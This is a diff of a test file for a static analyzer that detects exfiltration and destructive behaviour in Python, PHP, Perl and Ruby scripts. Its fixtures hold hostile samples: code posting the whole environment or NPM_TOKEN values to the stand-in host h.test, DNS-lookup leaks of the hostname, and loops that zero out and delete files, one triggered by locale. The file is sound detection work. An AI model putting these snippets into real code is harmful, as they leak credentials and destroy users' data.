@@ -1,5 +1,14 @@
 import { describe, expect, test } from 'vitest';
-import { interpretBatch, POWERSHELL, PYTHON, scanTokens } from '../../../src/analyze/tokens/index.js';
+import {
+  interpretBatch,
+  loadedFiles,
+  PERL,
+  PHP,
+  POWERSHELL,
+  PYTHON,
+  RUBY,
+  scanTokens,
+} from '../../../src/analyze/tokens/index.js';
 import { contextOf, scriptTask } from '../in-memory.js';
 
 const flows = (text: string, language: typeof PYTHON, sink: string): string[] => {
@@ -94,5 +103,80 @@ describe('batch', () => {
       ['https://h.test/a.exe', 5],
     ]);
     expect(observations.filter((seen) => seen.sink === 'code.eval')).toHaveLength(1);
+  });
+});
+
+describe('what several languages have in common', () => {
+  const seen = (text: string, language: typeof PYTHON, beside: { file: string; text: string }[] = []) =>
+    scanTokens({ ...scriptTask(text, 'python'), file: 'x' }, contextOf({}), language, beside).observations;
+
+  test.each([
+    [
+      'from http.client import HTTPSConnection as H\nimport os\nHOSTS = ("h.test", 1)\nH(*HOSTS).request("POST", "/", str(dict(os.environ)))',
+      PYTHON,
+      'net.out',
+      'h.test',
+    ],
+    [
+      '<?php $c = stream_context_create([]); file_get_contents($this->where, false, $c); const W = "https://h.test/p";',
+      PHP,
+      'net.out',
+      'https://h.test/p',
+    ],
+    ['inet_aton(sprintf "%s.%d.x.h.test", $part, $n); hostname();', PERL, 'dns.query', '\uFFFC.\uFFFC.x.h.test'],
+    [
+      'require "resolv"\nResolv.getaddress(Socket.gethostname + SUFFIX)\nSUFFIX = ".h.test"',
+      RUBY,
+      'dns.query',
+      '.h.test',
+    ],
+  ])('%s', (text, language, sink, target) => {
+    const found = seen(text, language).filter((each) => each.sink === sink);
+    expect(found.map((each) => each.target)).toContain(target);
+    expect(found.some(({ taints }) => taints.length > 0) || language === PHP).toBe(true);
+  });
+
+  test('names of secrets in a list are secrets where the environment is read', () => {
+    expect(
+      flows('W = ["NPM_TOKEN"]\nurlopen("https://h.test", str([os.getenv(n) for n in W]))', PYTHON, 'net.out'),
+    ).toContain('secret.env');
+    expect(flows('W = ["NPM_TOKEN"]\nurlopen("https://h.test", str(W))', PYTHON, 'net.out')).not.toContain(
+      'secret.env',
+    );
+  });
+
+  test('looking up a name that is written out carries nothing', () => {
+    expect(flows('socket.gethostbyname("h.test"); socket.gethostname()', PYTHON, 'dns.query')).toEqual([]);
+  });
+
+  test('what another module reads may be what this one sends', () => {
+    const other = { file: 'y.py', text: 'import os\nALL = dict(os.environ)' };
+    const [sent] = seen('import y\nurlopen("https://h.test", str(y.ALL))', PYTHON, [other]);
+    expect(sent?.taints.map(({ source, file }) => [source, file])).toEqual([['env.all', 'y.py']]);
+  });
+
+  test.each([
+    [
+      'zeros over files below a named folder',
+      'for b,d,n in os.walk("/srv/x"):\n  open(n,"r+b").write(b"\\0" * 9)\n  os.unlink(n)',
+      true,
+    ],
+    [
+      'removal where the locale is right',
+      'if locale.getlocale()[0] == "xx_XX":\n  for b,d,n in os.walk(os.path.expanduser("~/w")):\n    os.remove(n)',
+      true,
+    ],
+    ['stale files of its own', 'for b,d,n in os.walk(HERE):\n  if n.endswith(".pyc"): os.remove(n)', false],
+  ])('%s', (_what, text, destroys) => {
+    expect(seen(text, PYTHON).some(({ api }) => api.endsWith('destroying-walk'))).toBe(destroys);
+  });
+
+  test('files that a text loads: beside it, and below a search path that it sets', () => {
+    const files = new Set(['py/bridge/__init__.py', 'py/bridge/control.py', 'lib/My/Mod.pm', 'lib/a.rb', 'inc/b.php']);
+    const path = 'sys.path.insert(0, "../py")\nfrom bridge import control';
+    expect(loadedFiles(path, 'python', 'bin', files).sort()).toEqual(['py/bridge/__init__.py', 'py/bridge/control.py']);
+    expect(loadedFiles('use lib "../lib";\nuse My::Mod;', 'perl', 'bin', files)).toEqual(['lib/My/Mod.pm']);
+    expect(loadedFiles("require_relative '../lib/a'", 'ruby', 'bin', files)).toEqual(['lib/a.rb']);
+    expect(loadedFiles("require __DIR__ . '/../inc/b.php';", 'php', 'bin', files)).toEqual(['inc/b.php']);
   });
 });
